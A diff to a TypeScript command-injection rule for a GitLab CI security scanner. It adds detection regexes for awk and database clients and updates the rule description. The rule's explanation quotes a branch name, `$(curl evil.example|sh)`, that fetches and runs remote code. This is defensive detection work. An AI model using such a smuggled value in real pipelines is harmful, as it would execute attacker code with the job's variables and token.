@@ -8,6 +8,8 @@ const SINKS: readonly (readonly [RegExp, string])[] = [
   [/\b(?:ba|da|z|k)?sh\s+(?:-\w+\s+)*-\w*c\s+"((?:[^"\\]|\\.){1,2000})"/g, 'a shell'],
   [/\b(?:python[23]?|ruby|perl|node|php)\s+-(?:c|e|r)\s+"((?:[^"\\]|\\.){1,2000})"/g, 'an interpreter'],
   [/\bssh\s+[^"'\n|;&]{1,300}\s"((?:[^"\\]|\\.){1,2000})"/g, 'the shell of another machine'],
+  [/\bawk\s[^"'\n|;&]{0,200}"((?:[^"\\]|\\.){1,2000})"/g, 'awk'],
+  [/\b(?:psql|mysql|mariadb|sqlite3)\s[^"'\n|;&]{0,300}"((?:[^"\\]|\\.){1,2000})"/g, 'a database'],
 ];
 
 interface Injection {
@@ -46,7 +48,7 @@ export const rule: Rule = {
   platforms: ['gitlab'],
   standards: { cicdSec: ['CICD-SEC-4'], cwe: ['CWE-78', 'CWE-94'], cis: ['2.3.1'] },
   description:
-    'Looks for predefined variables that others write (messages, titles, names of branches) inside of `eval`, `sh -c "…"`, `python -c "…"` and `ssh host "…"`, directly or through `variables:`.',
+    'Looks for predefined variables that others write (messages, titles, names of branches) inside of `eval`, `sh -c "…"`, `python -c "…"`, `ssh host "…"`, `awk "…"` and commands of databases, directly or through `variables:`.',
   why: 'These commands read their argument as code a second time. A branch named `$(curl evil.example|sh)` or such a title runs as a command, with the variables and the token of the job.',
   remedy:
     'Pass the value as an argument instead of code: `sh -c \'echo "$1"\' _ "$CI_COMMIT_TITLE"`; use `CI_COMMIT_REF_SLUG` where a name is enough.',
